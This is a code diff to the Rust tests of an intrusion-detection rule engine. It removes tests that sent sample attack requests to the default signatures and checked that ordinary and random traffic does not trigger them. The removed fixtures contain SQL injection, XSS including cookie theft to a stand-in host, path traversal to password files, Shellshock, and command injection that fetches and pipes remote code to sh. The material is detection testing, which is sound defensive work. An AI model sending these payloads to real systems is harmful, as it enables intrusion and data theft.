@@ -477,18 +477,16 @@ alert tcp any any -> any any (msg:"stream"; flow:established,only_stream; sid:10
     let l = load(text, &Vars::default());
     assert!(l.errors.is_empty(), "{:?}", l.errors);
     let got: Vec<(u32, usize)> = l.unsupported.iter().map(|u| (u.sid, u.line)).collect();
-    assert_eq!(got, [(2, 3), (3, 4), (4, 5), (5, 6), (6, 7), (7, 8), (8, 9), (10, 11)]);
+    // HTTP buffers (sticky and legacy modifiers) and PCRE-only constructs load (PCRE2 runs them).
+    assert_eq!(got, [(2, 3), (4, 5), (6, 7), (10, 11)]);
     let reason = |sid| l.unsupported.iter().find(|u| u.sid == sid).unwrap().reason.clone();
     assert!(reason(2).contains("action 'drop'"));
-    assert!(reason(3).contains("http.uri"));
     assert!(reason(4).contains("byte_test"));
-    assert!(reason(5).contains("backreference"));
     assert!(reason(6).contains("protocol 'tls'"));
-    assert!(reason(7).contains("lookahead"));
-    assert!(reason(8).contains("http_uri"));
     assert!(reason(10).contains("only_stream"));
     let loaded: Vec<u32> = l.set.rules().iter().map(|r| r.sid).collect();
-    assert_eq!(loaded, [1, 9]);
+    assert_eq!(loaded, [1, 3, 5, 7, 8, 9]);
+    assert_eq!(l.set.http_rules(), 2);
 }
 
 #[test]
@@ -551,113 +549,16 @@ fn default_rules() -> Loaded {
     load(include_str!("../../../rules/default.rules"), &Vars::default())
 }
 
-fn http(req_line: &str, extra: &str) -> Vec<u8> {
-    format!("{req_line}\r\nHost: shop.example:8080\r\nUser-Agent: curl/8.4.0\r\nAccept: */*\r\n{extra}\r\n").into_bytes()
-}
-
 #[test]
 fn default_rules_load_cleanly() {
     let l = default_rules();
     assert!(l.errors.is_empty(), "{:#?}", l.errors);
     assert!(l.unsupported.is_empty(), "{:#?}", l.unsupported);
     let n = l.set.len();
-    assert!((20..=40).contains(&n), "{n} rules");
+    assert!((40..=100).contains(&n), "{n} rules");
     assert!(l.set.rules().iter().all(|r| r.sid >= 9_000_000));
-}
-
-#[test]
-fn default_rules_fire_on_attacks() {
-    let attacks: &[(&str, u32)] = &[
-        ("GET /items?id=1%20UNION%20SELECT%20username,password%20FROM%20users HTTP/1.1", 9000001),
-        ("GET /items?id=1+union+all+select+1,2,3 HTTP/1.1", 9000001),
-        ("GET /items?id=-1/**/UNION/**/SELECT/**/1 HTTP/1.1", 9000001),
-        ("GET /login?user=admin'%20OR%201=1 HTTP/1.1", 9000002),
-        ("GET /login?user=x'+or+'a'='a HTTP/1.1", 9000002),
-        ("GET /p?id=1%20AND%20SLEEP(5) HTTP/1.1", 9000003),
-        ("GET /q?x=1%20and%20benchmark(5000000,md5(1)) HTTP/1.1", 9000004),
-        ("GET /q?id=1;WAITFOR%20DELAY%20'0:0:5' HTTP/1.1", 9000005),
-        ("GET /q?x=1+union+select+table_name+from+information_schema.tables HTTP/1.1", 9000006),
-        ("GET /login?user=admin'-- HTTP/1.1", 9000007),
-        ("GET /login?user=admin%27%20-- HTTP/1.1", 9000008),
-        ("GET /q?x=1;exec+master..xp_cmdshell+'dir' HTTP/1.1", 9000009),
-        ("GET /q?x=1+union+select+load_file('/etc/hosts') HTTP/1.1", 9000010),
-        ("GET /search?q=<script>alert(1)</script> HTTP/1.1", 9000020),
-        ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 9000021),
-        ("GET /r?url=javascript:alert(1) HTTP/1.1", 9000022),
-        ("GET /i?x=<img%20src=x%20onerror=alert(1)> HTTP/1.1", 9000023),
-        ("GET /i?x=<svg%20onload=alert(1)> HTTP/1.1", 9000024),
-        ("GET /i?x=<img%20src=x%20onerror=fetch('//e/'+document.cookie)> HTTP/1.1", 9000025),
-        ("GET /../../../../etc/hosts HTTP/1.1", 9000030),
-        ("GET /files/..\\..\\windows\\system32 HTTP/1.1", 9000031),
-        ("GET /static/%2e%2e%2f%2e%2e%2fapp.conf HTTP/1.1", 9000032),
-        ("GET /static/..%2f..%2fapp.conf HTTP/1.1", 9000033),
-        ("GET /static/%252e%252e%252fapp.conf HTTP/1.1", 9000034),
-        ("GET /download?file=/etc/passwd HTTP/1.1", 9000035),
-        ("GET /download?file=%2Fetc%2Fshadow HTTP/1.1", 9000035),
-        ("GET /download?file=/proc/self/environ HTTP/1.1", 9000036),
-        ("GET /download?file=c:\\windows\\win.ini HTTP/1.1", 9000037),
-        ("GET /ping?host=127.0.0.1;cat%20/etc/hosts HTTP/1.1", 9000040),
-        ("GET /ping?host=127.0.0.1;id HTTP/1.1", 9000040),
-        ("GET /ping?host=127.0.0.1%3Bid HTTP/1.1", 9000049),
-        ("GET /ping?host=1.1.1.1|whoami HTTP/1.1", 9000050),
-        ("GET /ping?host=1.1.1.1%7Cuname+-a HTTP/1.1", 9000051),
-        ("GET /ping?host=1.1.1.1&&wget+http://203.0.113.9/x HTTP/1.1", 9000052),
-        ("GET /ping?host=1.1.1.1%26%26curl%20-s%20203.0.113.9 HTTP/1.1", 9000053),
-        ("GET /ping?host=1.1.1.1%0Acat%20/etc/hosts HTTP/1.1", 9000054),
-        ("GET /x?cmd=$(id) HTTP/1.1", 9000041),
-        ("GET /x?cmd=%24%28whoami%29 HTTP/1.1", 9000042),
-        ("GET /x?c=1;wget+http://203.0.113.9/x|sh HTTP/1.1", 9000043),
-        ("GET /x?cmd=`id` HTTP/1.1", 9000044),
-        ("GET /x?cmd=%60id%60 HTTP/1.1", 9000045),
-        ("GET /x?c=;/bin/sh%20-c%20id HTTP/1.1", 9000046),
-        ("GET /x?c=%2Fbin%2Fbash HTTP/1.1", 9000047),
-    ];
-    let mut s = default_rules().set;
-    let mut seen = std::collections::BTreeSet::new();
-    for (line, sid) in attacks {
-        let got = sids(&mut s, &req(&http(line, "")));
-        assert!(got.contains(sid), "{line:?} should fire {sid}, fired {got:?}");
-        seen.extend(got);
-    }
-    // Shellshock arrives in a header.
-    let got = sids(&mut s, &req(&http("GET /cgi-bin/status HTTP/1.1", "Referer: () { :; }; /bin/bash -c 'id'\r\n")));
-    assert!(got.contains(&9000048) && got.contains(&9000046), "{got:?}");
-    // A JSON body with an injected value.
-    let body = r#"{"user":"admin' OR 1=1","pass":"x"}"#;
-    let post = format!("POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len());
-    assert!(sids(&mut s, &req(post.as_bytes())).contains(&9000002));
-    seen.insert(9000048);
-    // Every default rule is exercised by at least one sample.
-    let all: std::collections::BTreeSet<u32> = s.rules().iter().map(|r| r.sid).collect();
-    assert_eq!(all.difference(&seen).collect::<Vec<_>>(), Vec::<&u32>::new());
-}
-
-#[test]
-fn default_rules_stay_silent_on_ordinary_requests() {
-    let json = r#"{"item":"cat food","qty":2,"note":"leave it at the door, or ring; see you","select":true,"tags":["a","b"],"path":"docs/guide"}"#;
-    let benign: Vec<Vec<u8>> = vec![
-        b"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\nConnection: keep-alive\r\nCookie: session=abc123; id=42; theme=dark; sh=1\r\nUpgrade-Insecure-Requests: 1\r\n\r\n".to_vec(),
-        b"GET /api/v1/users?id=42&sort=name&order=asc&select=email HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc\r\nAccept: application/json\r\n\r\n".to_vec(),
-        format!("POST /api/orders HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{json}", json.len()).into_bytes(),
-        json.as_bytes().to_vec(),
-        // wrk's default request, and one with its -H header.
-        b"GET /index.html HTTP/1.1\r\nHost: 198.18.0.2:8080\r\n\r\n".to_vec(),
-        b"GET / HTTP/1.1\r\nHost: 198.18.0.2:8080\r\nConnection: keep-alive\r\n\r\n".to_vec(),
-        b"GET /search?q=union+station+timetable&lang=en HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(),
-        b"GET /shop/category/shoes?page=2&sort=price HTTP/1.1\r\nHost: x\r\nIf-None-Match: \"abc\"\r\nCache-Control: no-cache\r\n\r\n".to_vec(),
-        b"GET /static/js/app.min.js?v=1.2.3 HTTP/1.1\r\nHost: x\r\nReferer: https://x/docs/sleep-tips\r\n\r\n".to_vec(),
-        b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 33\r\n\r\nusername=o%27brien&password=s3cr%21".to_vec(),
-        b"GET /profile/o'brien HTTP/1.1\r\nHost: x\r\nAccept: */*\r\n\r\n".to_vec(),
-        b"GET /feed.xml HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\r\nAccept: text/html;q=0.9, text/plain; charset=utf-8\r\n\r\n".to_vec(),
-        b"GET /wiki/Unix_shell?action=history&limit=50 HTTP/1.1\r\nHost: x\r\nCookie: lang=en; sh=1; cat=shoes; curl=no\r\n\r\n".to_vec(),
-        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok".to_vec(),
-        b"PUT /api/files/report.ini HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n".to_vec(),
-    ];
-    let mut s = default_rules().set;
-    for b in &benign {
-        let m = s.match_packet(&req(b));
-        assert!(m.is_empty(), "{:?} fired {:?}", String::from_utf8_lossy(b), m.iter().map(|m| (m.sid, &m.msg)).collect::<Vec<_>>());
-    }
+    // Every default rule reads HTTP buffers (tests/http_signatures.rs checks each one).
+    assert_eq!(l.set.http_rules(), n);
 }
 
 // ------------------------------------------------------------------ prefilter vs naive
@@ -758,27 +659,4 @@ proptest! {
         s.extend(&base[end..]);
         check_never_panics(&s);
     }
-}
-
-/// Encrypted and bulk traffic is random bytes: the default rules must stay silent on it. (Three
-/// rules with short patterns matched about 1 in 200 random 256-byte payloads before they were
-/// tied to an HTTP request line.)
-#[test]
-fn default_rules_stay_silent_on_random_payloads() {
-    let mut s = default_rules().set;
-    let mut x = 0x2545F4914F6CDD1Du64;
-    let mut hits = Vec::new();
-    for i in 0..20_000u32 {
-        let payload: Vec<u8> = (0..256)
-            .map(|_| {
-                x ^= x << 13;
-                x ^= x >> 7;
-                x ^= x << 17;
-                x as u8
-            })
-            .collect();
-        let p = pkt(CLIENT, 40000 + (i % 1000) as u16, SERVER, 443, Tp::Tcp(tf::PSH | tf::ACK), &payload, 1 + i as u64);
-        hits.extend(sids(&mut s, &p));
-    }
-    assert!(hits.is_empty(), "default rules fired on random bytes: {hits:?}");
 }
